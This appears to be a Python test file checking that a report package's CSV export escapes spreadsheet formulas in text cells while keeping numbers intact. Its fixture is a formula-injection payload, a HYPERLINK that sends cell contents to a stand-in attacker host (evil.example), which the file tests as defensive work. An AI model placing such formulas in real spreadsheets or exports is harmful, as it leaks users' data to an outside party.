"""The open-data CSV is safe in spreadsheets: text never runs as a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pandas as pd
from techmonitor.report.context import SectorSeries
from techmonitor.report.results import csv_text, safe_cell
from techmonitor.report.results_data import results_of

from .report_helpers import shared_report

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_formula_in_a_sector_name_reaches_the_csv_as_text() -> None:
    ctx = shared_report("national.yaml").context
    series = pd.DataFrame({"period": ["2023Q1", "2023Q2"], "value": [-3.5, 1250.0],
                           "status": ["definitive", "provisional"],
                           "vintage": ["cbs-80472ned", "@v2"], "source": ["+cbs", "cbs"]})
    evil = SectorSeries("evil", LINK, LINK, series)
    rows = [r for r in _rows(csv_text(results_of(replace(ctx, sector_vacancies=(evil,)))))
            if r["series"] == "vacancies_open-evil"]
    assert [r["name"] for r in rows] == ["'" + LINK] * 2
    # numbers stay numbers (a spreadsheet reads -3.5 as minus three and a half)
    assert [r["value"] for r in rows] == ["-3.5", "1250.0"]
    assert [r["source"] for r in rows] == ["'+cbs", "cbs"]
    assert [r["vintage"] for r in rows] == ["cbs-80472ned", "'@v2"]


def test_each_formula_start_is_neutralised_and_numbers_are_kept() -> None:
    for text in ("=1+1", "+31 6", "-x", "@SUM(A1)", "\tindent", "\rline"):
        assert safe_cell(text) == "'" + text
    for text in ("-3.5", "+2", "-1e-05", "Techniek", "", "2023Q3"):
        assert safe_cell(text) == text
